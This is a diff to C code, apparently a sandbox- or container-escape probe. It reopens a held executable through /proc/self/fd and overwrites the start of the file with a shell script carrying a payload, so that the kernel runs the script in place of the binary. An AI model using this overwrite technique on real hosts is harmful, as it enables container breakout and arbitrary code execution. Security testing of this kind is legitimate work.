@@ -112,7 +112,7 @@ static int overwrite(int held, const char* what, double deadline, const char* pa
     snprintf(path, sizeof path, "/proc/self/fd/%d", held);
     int fd, err;
     do {
-        fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
+        fd = open(path, O_WRONLY | O_CLOEXEC);
         err = errno;
         if (fd >= 0 || err != ETXTBSY)
             break;
@@ -122,7 +122,14 @@ static int overwrite(int held, const char* what, double deadline, const char* pa
         printf("write %s: errno=%s\n", what, err_name(err));
         return 1;
     }
-    dprintf(fd, "#!/bin/sh\n%s\n", payload);
+    /* Over the start of the file: the kernel then runs it as a script. */
+    char script[512];
+    int len = snprintf(script, sizeof script, "#!/bin/sh\n%s\nexit 0\n", payload);
+    if (write(fd, script, len) != len) {
+        printf("write %s: opened, then errno=%s\n", what, err_name(errno));
+        close(fd);
+        return 1;
+    }
     close(fd);
     printf("write %s: ok\n", what);
     return 0;
@@ -148,6 +155,10 @@ static int attack_exe(const char* interp, const char* hold, int secs, const char
         return 1;
     }
     printf("held exe: pid=%d size=%lld\n", pid, (long long)st.st_size);
+    char target[256] = "";
+    if (readlink(path, target, sizeof target - 1) < 0)
+        snprintf(target, sizeof target, "errno=%s", err_name(errno));
+    printf("exe link: %s\n", target);
     /* The same file may also be open among its fds. */
     int held_fd = -1;
     for (int n = 0; n < 64 && held_fd < 0; ++n) {
